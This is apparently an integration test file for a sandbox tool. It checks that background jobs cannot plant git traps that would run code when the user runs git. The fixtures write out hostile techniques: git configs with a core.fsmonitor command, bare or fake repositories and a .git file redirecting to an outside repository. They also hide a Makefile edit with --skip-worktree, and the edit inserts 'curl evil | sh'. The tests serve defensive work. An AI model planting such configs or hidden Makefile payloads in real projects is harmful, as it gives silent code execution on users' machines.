//! A background job has the protection of a call of a second: what it writes where git
//! reads code is refused at the write (the supervisor), so the user's prompt meets none of
//! it while the job still runs, and what only the post-call guard can judge is judged
//! every few seconds while the job lives, not a day later at its end.

mod common;

use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use common::command;

/// A temp dir with `home/`, `config/`, `proj/` and `other/` (a repository of the user's
/// outside the project), outside `/tmp`.
fn temp_env() -> tempfile::TempDir {
    let dir = tempfile::tempdir_in("/var/tmp").unwrap();
    for d in ["home", "config", "proj"] {
        std::fs::create_dir(dir.path().join(d)).unwrap();
    }
    let o = Command::new("git")
        .args(["init", "-q"])
        .arg(dir.path().join("other"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    dir
}

/// `efr-sandbox ARGS` with its service at `<dir>/run/sandbox.sock` (started when none runs).
fn cli(dir: &Path, args: &[&str]) -> Output {
    command(dir)
        .env_remove("EFR_SANDBOX_NO_SERVICE")
        .env("EFR_SANDBOX_IDLE_EXIT", "2")
        .env("EFR_SANDBOX_SOCKET", dir.join("run/sandbox.sock"))
        .current_dir(dir.join("proj"))
        .args(args)
        .output()
        .unwrap()
}

/// The user's git on the host, in `dir`.
fn user_git(home: &Path, dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap()
}

fn wait_for(what: &str, secs: u64, f: impl Fn() -> bool) {
    let end = Instant::now() + Duration::from_secs(secs);
    while !f() {
        assert!(Instant::now() < end, "waited {secs} s for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn the_users_prompt_meets_nothing_a_running_job_planted() {
    for b in common::backends() {
        let dir = temp_env();
        let d = dir.path();
        let (proj, home, other) = (d.join("proj"), d.join("home"), d.join("other"));
        let mark = d.join("ran");
        let evil = format!(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = touch {}\n",
            mark.display()
        );
        let line = format!(
            r#"cd {proj}
git init -q a; git -C a config core.fsmonitor 'touch {mark}'
printf '%s' '{evil}' > a/.git/config.new; mv a/.git/config.new a/.git/config
git init -q --bare b; printf '%s' '{evil}' > b/config
mkdir c; printf '%s' '{evil}' > c/config; mkdir c/objects c/refs; echo 'ref: refs/heads/m' > c/HEAD
mkdir w; printf 'gitdir: {other}/.git\n' > w/.git
touch ready; sleep 120"#,
            proj = proj.display(),
            mark = mark.display(),
            other = other.display(),
        );
        let o = cli(
            d,
            &[
                "run",
                "--backend",
                b,
                "--project",
                proj.to_str().unwrap(),
                "--background",
                "--max-minutes",
                "3",
                "--",
                &line,
            ],
        );
        assert!(o.status.success(), "{b}: {o:?}");
        let id = String::from_utf8_lossy(&o.stdout).trim().to_string();
        wait_for("the job's plants", 30, || proj.join("ready").exists());
        // While the job runs, the user's prompt and habits in every directory it made.
        for sub in ["a", "b", "c", "w"] {
            for args in [&["status", "--porcelain"][..], &["log", "-1"]] {
                let _ = user_git(&home, &proj.join(sub), args);
            }
        }
        assert!(
            !mark.exists(),
            "{b}: the user's git ran what the running job planted"
        );
        for sub in ["a/.git", "b", "c"] {
            let o = user_git(&home, &proj.join(sub), &["config", "--list", "--local"]);
            let l = String::from_utf8_lossy(&o.stdout);
            assert!(
                !l.contains("fsmonitor") && !l.contains("worktree"),
                "{b}: {sub}: {l}"
            );
        }
        // What only the guard judges (a `.git` file naming a repository outside the
        // project, which the user's git in `w` would act on) is taken out while the job
        // still runs, within the checks' period.
        wait_for("the live guard", 10, || {
            !proj.join("w/.git").exists() && proj.join("w/.git.efr-quarantine").exists()
        });
        let jobs = cli(d, &["jobs"]);
        let listed = String::from_utf8_lossy(&jobs.stdout);
        assert!(
            listed.contains("running"),
            "{b}: the job ended first: {listed}"
        );
        let o = cli(d, &["jobs", "stop", &id]);
        assert!(o.status.success(), "{b}: {o:?}");
    }
}

/// A job hides an edit of a tracked file from `git status` with `--skip-worktree`: while
/// the job still runs, within the checks' period, the flag is taken off and the user's
/// `git status` shows the edit.
#[test]
fn a_running_jobs_hidden_edit_shows_in_the_users_status() {
    for b in common::backends() {
        let dir = temp_env();
        let d = dir.path();
        let (proj, home) = (d.join("proj"), d.join("home"));
        for args in [
            &["init", "-q"][..],
            &[
                "-c",
                "user.name=u",
                "-c",
                "user.email=u@x",
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "0",
            ],
        ] {
            assert!(user_git(&home, &proj, args).status.success());
        }
        std::fs::write(proj.join("Makefile"), "all:\n\ttrue\n").unwrap();
        for args in [
            &["add", "Makefile"][..],
            &[
                "-c",
                "user.name=u",
                "-c",
                "user.email=u@x",
                "commit",
                "-qm",
                "m",
            ],
        ] {
            assert!(user_git(&home, &proj, args).status.success());
        }
        let line = format!(
            "cd {}; git update-index --skip-worktree Makefile && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && touch .ready; sleep 120",
            proj.display()
        );
        let o = cli(
            d,
            &[
                "run",
                "--backend",
                b,
                "--project",
                proj.to_str().unwrap(),
                "--background",
                "--max-minutes",
                "3",
                "--",
                &line,
            ],
        );
        assert!(o.status.success(), "{b}: {o:?}");
        let id = String::from_utf8_lossy(&o.stdout).trim().to_string();
        wait_for("the job's edit", 30, || proj.join(".ready").exists());
        wait_for("the edit in the user's git status", 10, || {
            let o = user_git(&home, &proj, &["status", "--porcelain"]);
            String::from_utf8_lossy(&o.stdout).contains("Makefile")
        });
        let jobs = cli(d, &["jobs"]);
        assert!(
            String::from_utf8_lossy(&jobs.stdout).contains("running"),
            "{b}: the job ended first"
        );
        assert!(cli(d, &["jobs", "stop", &id]).status.success());
    }
}
